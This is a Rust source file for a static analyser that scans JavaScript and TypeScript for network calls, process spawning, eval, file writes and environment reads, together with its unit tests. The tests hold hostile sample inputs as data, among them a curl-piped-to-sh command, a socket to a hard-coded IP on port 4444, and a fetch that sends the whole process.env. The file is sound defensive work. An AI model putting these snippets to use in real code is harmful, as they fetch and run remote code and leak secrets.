//! JavaScript and TypeScript: one tree-sitter parse per file, imports and aliases resolved to
//! qualified names, then calls classified through the rule table.

use std::collections::HashMap;
use std::sync::OnceLock;

use tree_sitter::{Node, Parser, Tree};

use super::rules::{self, RuleTable};
use super::FileAnalysis;
use crate::finding::{Category, Finding, Severity};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Dialect {
    JavaScript,
    TypeScript,
    Tsx,
}

fn language(dialect: Dialect) -> tree_sitter::Language {
    match dialect {
        Dialect::JavaScript => tree_sitter_javascript::LANGUAGE.into(),
        Dialect::TypeScript => tree_sitter_typescript::LANGUAGE_TYPESCRIPT.into(),
        Dialect::Tsx => tree_sitter_typescript::LANGUAGE_TSX.into(),
    }
}

pub fn parse(src: &[u8], dialect: Dialect) -> Option<Tree> {
    let mut parser = Parser::new();
    parser.set_language(&language(dialect)).ok()?;
    parser.parse(src, None)
}

/// Node kind ids the walk dispatches on (comparing ids, not kind strings, on every node).
struct Kinds {
    import: u16,
    declarator: u16,
    assignment: u16,
    call: u16,
    new: u16,
    member: u16,
    subscript: u16,
}

impl Kinds {
    fn of(dialect: Dialect) -> &'static Kinds {
        static KINDS: OnceLock<[Kinds; 3]> = OnceLock::new();
        let all = KINDS.get_or_init(|| {
            [Dialect::JavaScript, Dialect::TypeScript, Dialect::Tsx].map(|d| {
                let l = language(d);
                let id = |k: &str| l.id_for_node_kind(k, true);
                Kinds {
                    import: id("import_statement"),
                    declarator: id("variable_declarator"),
                    assignment: id("assignment_expression"),
                    call: id("call_expression"),
                    new: id("new_expression"),
                    member: id("member_expression"),
                    subscript: id("subscript_expression"),
                }
            })
        });
        &all[dialect as usize]
    }
}

/// Globals that name an API without an import.
const GLOBALS: &[&str] = &[
    "fetch",
    "eval",
    "Function",
    "process",
    "require",
    "setTimeout",
    "setInterval",
    "XMLHttpRequest",
    "WebSocket",
    "EventSource",
    "JSON",
    "Object",
];

/// Analyse one JavaScript/TypeScript file.
pub fn analyze(path: &str, src: &[u8], dialect: Dialect) -> FileAnalysis {
    let Some(tree) = parse(src, dialect) else {
        return FileAnalysis::default();
    };
    let mut a = Analyzer {
        path,
        src,
        table: rules::javascript(),
        bindings: HashMap::new(),
        findings: Vec::new(),
    };
    // One walk collects the nodes of interest in document order; bindings are resolved first
    // (imports, require, aliases, destructuring), then calls and environment reads classified.
    let k = Kinds::of(dialect);
    let mut binders = Vec::new();
    let mut uses = Vec::new();
    preorder(tree.root_node(), |n| {
        let id = n.kind_id();
        if id == k.import || id == k.assignment {
            binders.push(n);
        } else if id == k.declarator {
            binders.push(n);
            uses.push(n);
        } else if id == k.call || id == k.new || id == k.member || id == k.subscript {
            uses.push(n);
        }
    });
    for n in binders {
        a.bind(n);
    }
    for n in uses {
        a.classify(n);
    }
    FileAnalysis {
        findings: a.findings,
        ..FileAnalysis::default()
    }
}

/// Iterative pre-order walk (minified code nests deeply; no recursion).
fn preorder<'t>(root: Node<'t>, mut visit: impl FnMut(Node<'t>)) {
    let mut cursor = root.walk();
    loop {
        visit(cursor.node());
        if cursor.goto_first_child() {
            continue;
        }
        loop {
            if cursor.goto_next_sibling() {
                break;
            }
            if !cursor.goto_parent() {
                return;
            }
        }
    }
}

struct Analyzer<'a> {
    path: &'a str,
    src: &'a [u8],
    table: &'static RuleTable,
    /// Local name → qualified name it stands for.
    bindings: HashMap<String, String>,
    findings: Vec<Finding>,
}

/// `node:fs` → `fs`, `fs/promises` → `fs.promises`.
fn module_name(spec: &str) -> String {
    let s = spec.strip_prefix("node:").unwrap_or(spec);
    if s.starts_with('@') {
        // `@scope/pkg/sub` keeps the scope's slash.
        let mut parts = s.splitn(3, '/');
        let scope = parts.next().unwrap_or_default();
        let pkg = parts.next().unwrap_or_default();
        match parts.next() {
            Some(rest) => format!("{scope}/{pkg}.{}", rest.replace('/', ".")),
            None => format!("{scope}/{pkg}"),
        }
    } else {
        s.replace('/', ".")
    }
}

impl<'a> Analyzer<'a> {
    fn text(&self, n: Node) -> &'a str {
        std::str::from_utf8(&self.src[n.byte_range()]).unwrap_or("")
    }

    /// The value of a plain string literal (no template substitutions).
    fn string_value(&self, n: Node) -> Option<String> {
        match n.kind() {
            "string" => {
                let t = self.text(n);
                Some(
                    t.get(1..t.len().saturating_sub(1))
                        .unwrap_or("")
                        .to_string(),
                )
            }
            "template_string" if n.named_child_count() == 0 || !has_substitution(n) => {
                let t = self.text(n);
                Some(
                    t.get(1..t.len().saturating_sub(1))
                        .unwrap_or("")
                        .to_string(),
                )
            }
            _ => None,
        }
    }

    /// The static prefix of a string or template (`https://api.x.com/${p}` → `https://api.x.com/`).
    fn string_prefix(&self, n: Node) -> Option<String> {
        if let Some(s) = self.string_value(n) {
            return Some(s);
        }
        if n.kind() == "template_string" {
            let t = self.text(n);
            let inner = t.get(1..).unwrap_or("");
            return Some(inner.split("${").next().unwrap_or("").to_string());
        }
        None
    }

    /// What an expression stands for, as a qualified API name.
    fn qualify(&self, n: Node) -> Option<String> {
        match n.kind() {
            "identifier" => {
                let name = self.text(n);
                match self.bindings.get(name) {
                    Some(q) => Some(q.clone()),
                    None if GLOBALS.contains(&name) => Some(name.to_string()),
                    None => None,
                }
            }
            "member_expression" => {
                let obj = n.child_by_field_name("object")?;
                let prop = n.child_by_field_name("property")?;
                if prop.kind() != "property_identifier" {
                    return None;
                }
                let prop = self.text(prop);
                if obj.kind() == "identifier"
                    && matches!(self.text(obj), "globalThis" | "window" | "global" | "self")
                    && !self.bindings.contains_key(self.text(obj))
                {
                    return GLOBALS.contains(&prop).then(|| prop.to_string());
                }
                Some(format!("{}.{prop}", self.qualify(obj)?))
            }
            "subscript_expression" => {
                let obj = n.child_by_field_name("object")?;
                let idx = n.child_by_field_name("index")?;
                let key = self.string_value(idx)?;
                Some(format!("{}.{key}", self.qualify(obj)?))
            }
            "parenthesized_expression" | "await_expression" | "non_null_expression" => {
                self.qualify(n.named_child(0)?)
            }
            "as_expression" | "satisfies_expression" => self.qualify(n.named_child(0)?),
            "call_expression" => {
                let callee = n.child_by_field_name("function")?;
                let args = n.child_by_field_name("arguments")?;
                let first = args.named_child(0);
                // require('mod') and import('mod') stand for the module.
                if callee.kind() == "import"
                    || (callee.kind() == "identifier"
                        && self.text(callee) == "require"
                        && !self.bindings.contains_key("require"))
                {
                    return Some(module_name(&self.string_value(first?)?));
                }
                let q = self.qualify(callee)?;
                self.table.returns(&q).map(str::to_string)
            }
            _ => None,
        }
    }

    fn bind(&mut self, n: Node) {
        match n.kind() {
            "import_statement" => self.bind_import(n),
            "variable_declarator" => {
                let (Some(name), Some(value)) = (
                    n.child_by_field_name("name"),
                    n.child_by_field_name("value"),
                ) else {
                    return;
                };
                let Some(q) = self.qualify(value) else { return };
                self.bind_pattern(name, &q);
            }
            "assignment_expression" => {
                let (Some(left), Some(right)) = (
                    n.child_by_field_name("left"),
                    n.child_by_field_name("right"),
                ) else {
                    return;
                };
                if left.kind() == "identifier" {
                    if let Some(q) = self.qualify(right) {
                        self.bindings.insert(self.text(left).to_string(), q);
                    }
                }
            }
            _ => {}
        }
    }

    fn bind_pattern(&mut self, pattern: Node, q: &str) {
        match pattern.kind() {
            "identifier" => {
                self.bindings
                    .insert(self.text(pattern).to_string(), q.to_string());
            }
            "object_pattern" => {
                let mut c = pattern.walk();
                for p in pattern.named_children(&mut c) {
                    match p.kind() {
                        "shorthand_property_identifier_pattern" => {
                            let name = self.text(p);
                            self.bindings
                                .insert(name.to_string(), format!("{q}.{name}"));
                        }
                        "pair_pattern" => {
                            let (Some(key), Some(value)) =
                                (p.child_by_field_name("key"), p.child_by_field_name("value"))
                            else {
                                continue;
                            };
                            let key = match key.kind() {
                                "property_identifier" => self.text(key).to_string(),
                                _ => match self.string_value(key) {
                                    Some(k) => k,
                                    None => continue,
                                },
                            };
                            self.bind_pattern(value, &format!("{q}.{key}"));
                        }
                        "object_assignment_pattern" => {
                            if let Some(left) = p.child_by_field_name("left") {
                                if left.kind() == "shorthand_property_identifier_pattern" {
                                    let name = self.text(left);
                                    self.bindings
                                        .insert(name.to_string(), format!("{q}.{name}"));
                                }
                            }
                        }
                        _ => {}
                    }
                }
            }
            _ => {}
        }
    }

    fn bind_import(&mut self, n: Node) {
        let Some(source) = n
            .child_by_field_name("source")
            .and_then(|s| self.string_value(s))
        else {
            return;
        };
        let module = module_name(&source);
        let mut c = n.walk();
        for clause in n.named_children(&mut c) {
            if clause.kind() != "import_clause" {
                continue;
            }
            let mut c2 = clause.walk();
            for part in clause.named_children(&mut c2) {
                match part.kind() {
                    // `import x from 'm'`: the default export; for CommonJS modules the module itself.
                    "identifier" => {
                        self.bindings
                            .insert(self.text(part).to_string(), module.clone());
                    }
                    "namespace_import" => {
                        if let Some(id) = part.named_child(0) {
                            self.bindings
                                .insert(self.text(id).to_string(), module.clone());
                        }
                    }
                    "named_imports" => {
                        let mut c3 = part.walk();
                        for spec in part.named_children(&mut c3) {
                            if spec.kind() != "import_specifier" {
                                continue;
                            }
                            let Some(name) = spec.child_by_field_name("name") else {
                                continue;
                            };
                            let local = spec.child_by_field_name("alias").unwrap_or(name);
                            let imported = self
                                .string_value(name)
                                .unwrap_or_else(|| self.text(name).to_string());
                            let q = if imported == "default" {
                                module.clone()
                            } else {
                                format!("{module}.{imported}")
                            };
                            self.bindings.insert(self.text(local).to_string(), q);
                        }
                    }
                    _ => {}
                }
            }
        }
    }

    fn finding(
        &self,
        rule: &str,
        category: Category,
        severity: Severity,
        n: Node,
        message: String,
    ) -> Finding {
        let start = n.start_position();
        let mut f = Finding::new(rule, category, severity, self.path, message);
        f.line = Some(start.row as u32 + 1);
        f.column = Some(start.column as u32 + 1);
        f.end_line = Some(n.end_position().row as u32 + 1);
        f
    }

    fn classify(&mut self, n: Node) {
        match n.kind() {
            "call_expression" => self.classify_call(n, false),
            "new_expression" => self.classify_call(n, true),
            "member_expression" | "subscript_expression" => self.classify_env(n),
            "variable_declarator" => self.classify_env_destructure(n),
            _ => {}
        }
    }

    fn classify_call(&mut self, n: Node, is_new: bool) {
        let callee = n.child_by_field_name(if is_new { "constructor" } else { "function" });
        let Some(callee) = callee else { return };
        let args = n.child_by_field_name("arguments");
        let first = args.and_then(|a| a.named_child(0));

        // Computed require()/import(): code chosen at run time.
        let is_require = callee.kind() == "identifier"
            && self.text(callee) == "require"
            && !self.bindings.contains_key("require");
        if (is_require || callee.kind() == "import") && !is_new {
            if let Some(arg) = first {
                if self.string_value(arg).is_none() {
                    let f = self
                        .finding(
                            "js.eval.dynamic-import",
                            Category::Eval,
                            Severity::Medium,
                            n,
                            "module name computed at run time (require/import of a non-literal)"
                                .into(),
                        )
                        .with("expression", clip(self.text(arg)));
                    self.findings.push(f);
                }
            }
            return;
        }

        let Some(q) = self.qualify(callee) else {
            return;
        };
        match q.as_str() {
            "eval" => {
                let f = self.finding(
                    "js.eval.eval",
                    Category::Eval,
                    Severity::High,
                    n,
                    "eval() runs a string as code".into(),
                );
                let f = match first {
                    Some(a) => f.with("argument", clip(self.text(a))),
                    None => f,
                };
                self.findings.push(f);
                return;
            }
            "Function" => {
                let f = self.finding(
                    "js.eval.function",
                    Category::Eval,
                    Severity::High,
                    n,
                    "Function constructor builds code from strings".into(),
                );
                self.findings.push(f);
                return;
            }
            "setTimeout" | "setInterval" => {
                if let Some(a) = first {
                    if matches!(a.kind(), "string" | "template_string" | "binary_expression") {
                        let f = self
                            .finding(
                                "js.eval.string-timer",
                                Category::Eval,
                                Severity::High,
                                n,
                                format!("{q}() with a string argument evaluates it as code"),
                            )
                            .with("argument", clip(self.text(a)));
                        self.findings.push(f);
                    }
                }
                return;
            }
            _ => {}
        }
        if let Some(rule) = self.table.lookup(&q, is_new) {
            let mut f = self.finding(
                &rule.id,
                rule.category,
                rule.severity,
                n,
                rule.message.clone(),
            );
            f = f.with("api", q.clone());
            if let Some(a) = first {
                if let Some(s) = self.string_prefix(a) {
                    match rule.category {
                        Category::Network => {
                            if let Some(host) = url::Url::parse(&s)
                                .ok()
                                .and_then(|u| u.host_str().map(str::to_string))
                            {
                                f = f.with("host", host);
                            }
                            f = f.with("url", clip(&s));
                        }
                        Category::Exec => f = f.with("command", clip(&s)),
                        Category::FsWrite => f = f.with("target", clip(&s)),
                        _ => {}
                    }
                }
            }
            self.findings.push(f);
        }
    }

    /// `process.env.X`, `process.env['X']`, `process.env[k]`, and whole-object uses.
    fn classify_env(&mut self, n: Node) {
        let Some(obj) = n.child_by_field_name("object") else {
            return;
        };
        if self.qualify(obj).as_deref() == Some("process.env") {
            let name = match n.kind() {
                "member_expression" => n
                    .child_by_field_name("property")
                    .map(|p| self.text(p).to_string()),
                _ => n
                    .child_by_field_name("index")
                    .and_then(|i| self.string_value(i)),
            };
            let f = match name {
                Some(var) => self
                    .finding(
                        "js.env.read",
                        Category::EnvRead,
                        Severity::Low,
                        n,
                        format!("reads environment variable {var}"),
                    )
                    .with("variable", var),
                None => self.finding(
                    "js.env.computed",
                    Category::EnvRead,
                    Severity::Medium,
                    n,
                    "reads an environment variable chosen at run time".into(),
                ),
            };
            self.findings.push(f);
            return;
        }
        // Whole-environment use: `process.env` itself, not as the object of a member access
        // and not destructured.
        if n.kind() != "member_expression" || self.qualify(n).as_deref() != Some("process.env") {
            return;
        }
        let Some(parent) = n.parent() else { return };
        let is_object_of_parent =
            matches!(parent.kind(), "member_expression" | "subscript_expression")
                && parent.child_by_field_name("object") == Some(n);
        // Destructuring and plain aliases (`const e = process.env`) are followed through
        // their bindings instead.
        let destructured = parent.kind() == "variable_declarator"
            && parent.child_by_field_name("value") == Some(n)
            && parent
                .child_by_field_name("name")
                .is_some_and(|p| matches!(p.kind(), "object_pattern" | "identifier"));
        let assigned_to = parent.kind() == "assignment_expression"
            && parent.child_by_field_name("left") == Some(n);
        if is_object_of_parent || destructured || assigned_to {
            return;
        }
        let copied = parent.kind() == "spread_element"
            || (parent.kind() == "arguments"
                && parent.parent().is_some_and(|call| {
                    call.child_by_field_name("function")
                        .and_then(|c| self.qualify(c))
                        .is_some_and(|q| {
                            matches!(
                                q.as_str(),
                                "JSON.stringify"
                                    | "Object.entries"
                                    | "Object.keys"
                                    | "Object.values"
                                    | "Object.assign"
                            )
                        })
                }));
        let f = if copied {
            self.finding(
                "js.env.whole",
                Category::EnvRead,
                Severity::High,
                n,
                "reads the whole environment (every variable, secrets included)".into(),
            )
        } else {
            self.finding(
                "js.env.object",
                Category::EnvRead,
                Severity::Low,
                n,
                "passes the whole environment object on".into(),
            )
        };
        self.findings.push(f);
    }

    /// `const { A, B: b } = process.env`.
    fn classify_env_destructure(&mut self, n: Node) {
        let (Some(name), Some(value)) = (
            n.child_by_field_name("name"),
            n.child_by_field_name("value"),
        ) else {
            return;
        };
        if name.kind() != "object_pattern" || self.qualify(value).as_deref() != Some("process.env")
        {
            return;
        }
        let mut c = name.walk();
        let vars: Vec<String> = name
            .named_children(&mut c)
            .filter_map(|p| match p.kind() {
                "shorthand_property_identifier_pattern" => Some(self.text(p).to_string()),
                "pair_pattern" => p
                    .child_by_field_name("key")
                    .map(|k| self.text(k).to_string()),
                "object_assignment_pattern" => p
                    .child_by_field_name("left")
                    .map(|k| self.text(k).to_string()),
                "rest_pattern" => Some("...".to_string()),
                _ => None,
            })
            .collect();
        for var in vars {
            let f = if var == "..." {
                self.finding(
                    "js.env.whole",
                    Category::EnvRead,
                    Severity::High,
                    n,
                    "copies the whole environment (rest pattern)".into(),
                )
            } else {
                self.finding(
                    "js.env.read",
                    Category::EnvRead,
                    Severity::Low,
                    n,
                    format!("reads environment variable {var}"),
                )
                .with("variable", var)
            };
            self.findings.push(f);
        }
    }
}

fn has_substitution(n: Node) -> bool {
    let mut c = n.walk();
    let found = n
        .named_children(&mut c)
        .any(|ch| ch.kind() == "template_substitution");
    found
}

/// Evidence strings are kept short.
fn clip(s: &str) -> String {
    const MAX: usize = 200;
    if s.len() <= MAX {
        return s.to_string();
    }
    let mut end = MAX;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    format!("{}…", &s[..end])
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules_of(src: &str) -> Vec<String> {
        analyze("t.js", src.as_bytes(), Dialect::JavaScript)
            .findings
            .into_iter()
            .map(|f| f.rule)
            .collect()
    }

    fn one(src: &str) -> Finding {
        let mut f = analyze("t.ts", src.as_bytes(), Dialect::TypeScript).findings;
        assert_eq!(f.len(), 1, "{f:#?}");
        f.remove(0)
    }

    #[test]
    fn network_through_imports_requires_and_aliases() {
        assert_eq!(rules_of("fetch('https://x.io/a')"), ["js.network.fetch"]);
        assert_eq!(rules_of("const f = fetch; f(u)"), ["js.network.fetch"]);
        assert_eq!(rules_of("globalThis.fetch(u)"), ["js.network.fetch"]);
        assert_eq!(
            rules_of("import axios from 'axios'; axios.get(u)"),
            ["js.network.axios"]
        );
        assert_eq!(
            rules_of("const api = require('axios').create({}); api.post(u)"),
            ["js.network.axios"]
        );
        assert_eq!(
            rules_of("import * as https from 'node:https'; https.get(u)"),
            ["js.network.http"]
        );
        assert_eq!(
            rules_of("const { request } = require('https'); request(u)"),
            ["js.network.http"]
        );
        assert_eq!(
            rules_of("import { request as r } from 'undici'; r(u)"),
            ["js.network.fetch"]
        );
        assert_eq!(
            rules_of("import nf from 'node-fetch'; nf(u)"),
            ["js.network.fetch"]
        );
        assert_eq!(
            rules_of("const net = require('net'); net.connect(4444, '45.61.139.22')"),
            ["js.network.socket"]
        );
        assert_eq!(
            rules_of("new WebSocket('wss://x')"),
            ["js.network.websocket"]
        );
        assert_eq!(
            rules_of("const x = new XMLHttpRequest()"),
            ["js.network.xhr"]
        );
        let f = one("await fetch(`https://api.example.com/v1/${path}`)");
        assert_eq!(f.evidence["host"], "api.example.com");
        assert_eq!(f.line, Some(1));
    }

    #[test]
    fn processes_files_and_eval() {
        assert_eq!(
            rules_of("import { exec } from 'child_process'; exec('ls')"),
            ["js.exec.child-process"]
        );
        assert_eq!(
            rules_of("const cp = require('node:child_process'); const { spawn } = cp; spawn('sh')"),
            ["js.exec.child-process"]
        );
        assert_eq!(
            rules_of("import { execa } from 'execa'; await execa('git', ['x'])"),
            ["js.exec.execa"]
        );
        assert_eq!(
            rules_of("import fs from 'fs/promises'; await fs.writeFile(p, d)"),
            ["js.fs.write"]
        );
        assert_eq!(
            rules_of("const fs = require('fs'); fs.promises.rm(p)"),
            ["js.fs.write"]
        );
        assert_eq!(
            rules_of("import { writeFileSync } from 'node:fs'; writeFileSync(p, d)"),
            ["js.fs.write"]
        );
        assert_eq!(rules_of("eval(code)"), ["js.eval.eval"]);
        assert_eq!(rules_of("new Function('a', body)"), ["js.eval.function"]);
        assert_eq!(
            rules_of("setTimeout('alert(1)', 10)"),
            ["js.eval.string-timer"]
        );
        assert_eq!(rules_of("require(name)"), ["js.eval.dynamic-import"]);
        assert_eq!(
            rules_of("await import(`./x/${p}`)"),
            ["js.eval.dynamic-import"]
        );
        assert_eq!(
            rules_of("const vm = require('vm'); vm.runInNewContext(s)"),
            ["js.eval.vm"]
        );
        let f = one("import { execSync } from 'child_process'; execSync('curl http://x | sh')");
        assert_eq!(f.evidence["command"], "curl http://x | sh");
    }

    #[test]
    fn environment_reads() {
        let f = one("const t = process.env.GITHUB_TOKEN");
        assert_eq!(
            (f.rule.as_str(), f.evidence["variable"].as_str()),
            ("js.env.read", Some("GITHUB_TOKEN"))
        );
        assert_eq!(rules_of("process.env['API_KEY']"), ["js.env.read"]);
        assert_eq!(rules_of("process.env[name]"), ["js.env.computed"]);
        assert_eq!(
            rules_of("const { A, B: b } = process.env"),
            ["js.env.read", "js.env.read"]
        );
        assert_eq!(rules_of("const { ...all } = process.env"), ["js.env.whole"]);
        assert_eq!(
            rules_of("fetch(u, { body: JSON.stringify(process.env) })"),
            ["js.network.fetch", "js.env.whole"]
        );
        assert_eq!(
            rules_of("const copy = { ...process.env }"),
            ["js.env.whole"]
        );
        assert_eq!(rules_of("const e = process.env; e.HOME"), ["js.env.read"]);
        assert_eq!(
            rules_of("spawn(c, a, { env: process.env })"),
            ["js.env.object"]
        );
    }

    #[test]
    fn look_alikes_are_not_findings() {
        for src in [
            "/ab+c/.exec(s)",
            "const re = /x/; re.exec(s)",
            "model.eval()",
            "client.fetch(u)",
            "this.fetch(u)",
            "JSON.parse(s)",
            "// fetch('https://x') eval(x) exec('rm')",
            "const s = 'eval(x) and fetch(u) and child_process.exec'",
            "function fetch2() {} fetch2()",
            "const cache = new Map(); cache.get(k)",
            "import { exec } from './local-helpers'; exec(x)",
            "db.exec('select 1')",
            "setTimeout(() => run(), 10)",
            "require('fs')",
            "import('./static.js')",
            "const fs = require('fs'); fs.readFileSync(p)",
            "axiosLike.get(u)",
            "obj.process.env.X",
        ] {
            assert!(rules_of(src).is_empty(), "{src}: {:?}", rules_of(src));
        }
    }

    #[test]
    fn typescript_and_tsx_parse() {
        let f = analyze(
            "a.ts",
            b"import type { X } from 'y';\nconst r: Response = await fetch(u as string);",
            Dialect::TypeScript,
        )
        .findings;
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].line, Some(2));
        let f = analyze(
            "a.tsx",
            b"const C = () => <div onClick={() => eval(x)} />;",
            Dialect::Tsx,
        )
        .findings;
        assert_eq!(f.len(), 1);
    }
}
